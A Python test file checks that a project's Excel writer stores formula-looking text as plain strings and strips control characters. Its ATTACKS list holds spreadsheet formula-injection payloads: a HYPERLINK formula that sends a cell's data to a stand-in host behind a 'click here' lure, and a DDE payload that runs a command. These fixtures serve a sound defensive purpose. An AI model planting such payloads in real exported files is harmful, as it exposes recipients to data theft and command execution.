"""The one Excel writer: text is stored as text, never as a formula."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from motcua.lib import xlsx

ATTACKS = [
    '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "=1+1",
]


def _written(rows) -> bytes:
    book = xlsx.new_workbook()
    sheet = book.create_sheet("Bảng")
    for row in rows:
        xlsx.append_row(sheet, row)
    return xlsx.to_bytes(book)


def test_text_that_looks_like_a_formula_is_stored_as_text():
    content = _written([["Tên", "Ghi chú"], *[["Sở Tư pháp", attack] for attack in ATTACKS]])
    sheet = load_workbook(io.BytesIO(content)).active
    notes = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in notes] == ATTACKS
    assert all(cell.data_type == "s" for cell in notes)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_write_cell_stores_text_as_text_too():
    book = xlsx.new_workbook()
    sheet = book.create_sheet("Bảng")
    xlsx.write_cell(sheet, 3, 2, ATTACKS[0])
    cell = load_workbook(io.BytesIO(xlsx.to_bytes(book))).active.cell(3, 2)
    assert cell.value == ATTACKS[0] and cell.data_type == "s"


def test_numbers_and_dates_stay_numbers_and_dates_and_control_characters_go():
    content = _written([[3, 66.5, dt.date(2026, 10, 5), None, "a\x00b\x1bc"]])
    row = next(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    assert row[:2] == (3, 66.5)
    assert row[2].date() == dt.date(2026, 10, 5)
    assert row[3] is None and row[4] == "abc"


def test_no_module_writes_a_workbook_except_the_one_writer():
    src = Path(xlsx.__file__).resolve().parents[1]
    writers = re.compile(r"\bWorkbook\s*\(|import\s+Workbook\b|openpyxl\.Workbook")
    offenders = [
        str(path.relative_to(src))
        for path in src.rglob("*.py")
        if "tests" not in path.parts
        and path != Path(xlsx.__file__).resolve()
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
